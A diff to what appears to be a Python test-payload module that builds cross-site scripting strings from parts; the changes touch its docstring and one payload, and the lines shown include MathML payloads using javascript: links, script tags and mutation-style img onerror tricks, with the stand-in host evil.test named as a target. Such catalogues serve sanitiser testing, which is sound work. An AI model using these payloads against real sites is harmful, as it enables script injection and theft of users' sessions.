@@ -1,6 +1,6 @@
 """Strings that would run a script on a page that prints them carelessly, made by class.
 
-Each would set ``window.pwned``, open a dialog or ask ``evil.test`` for something if it came through.
+Each would set ``window.pwned``, open a dialog or ask ``evil.test`` for something if it worked.
 They are made of parts (a payload, a carrier, a disguise) so that a new way in is one line here.
 """
 
@@ -112,7 +112,7 @@ _MATHML: Final = (
     "<math><maction actiontype='statusline#{f}' xlink:href='javascript:{p}'>x</maction></math>",
     "<math><annotation-xml encoding='text/html'><script>{p}</script></annotation-xml></math>",
     "<math><mi//xlink:href='data:text/html,<script>{p}</script>'>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={p}&gt;'>",
+    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={p}&gt;'>",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror={p}>",
 )
 _ELEMENTS: Final = (
